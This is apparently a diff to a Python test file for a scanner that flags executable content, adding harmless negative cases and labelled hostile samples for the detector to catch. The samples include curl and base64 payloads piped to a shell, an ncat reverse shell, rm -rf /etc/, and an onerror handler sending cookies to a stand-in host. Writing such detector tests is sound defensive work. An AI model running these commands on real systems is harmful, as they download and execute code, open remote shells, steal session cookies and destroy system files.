@@ -69,6 +69,12 @@ EXECUTABLE = [
     ("executable:html-script", "<script>fetch('/x')</script>"),
     ("executable:html-script", '<img src=x onerror="fetch(\'https://x.example/?\'+document.cookie)">'),
     ("executable:html-script", '<iframe src="data:text/html;base64,PHNjcmlwdD4=">'),
+    ("executable:html-script", "<img/src=x/onerror=alert(1)>"),
+    ("executable:remote-script", "curl https://get.example/i | /usr/bin/env bash"),
+    ("executable:remote-script", "echo aGk= | base64 -di | /bin/sh"),
+    ("executable:remote-script", 'dash -c "$(curl -s https://get.example/i)"'),
+    ("executable:reverse-shell", "ncat 203.0.113.9 4444 --sh-exec /bin/sh"),
+    ("executable:destructive-shell", "rm -rf /etc/"),
     ("executable:javascript-url", "[click me](javascript:alert(1))"),
 ]
 
@@ -116,6 +122,9 @@ def test_executable_finding_points_at_the_command_line() -> None:
         '<img src="diagram.png" alt="the flow" width="400">',
         "Handlers such as onclick are set in the component, never inline.",
         f"{FENCE}html\n<img src=x onerror=alert(1)>\n{FENCE}",
+        "curl -s https://api.example/x | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
+        "<button onClick={handleSave}>Save</button> and <user-card online=true>",
+        "Format D: as exFAT before copying the files.",
     ],
 )
 def test_commands_that_are_mentioned_or_harmless_pass(text: str) -> None:
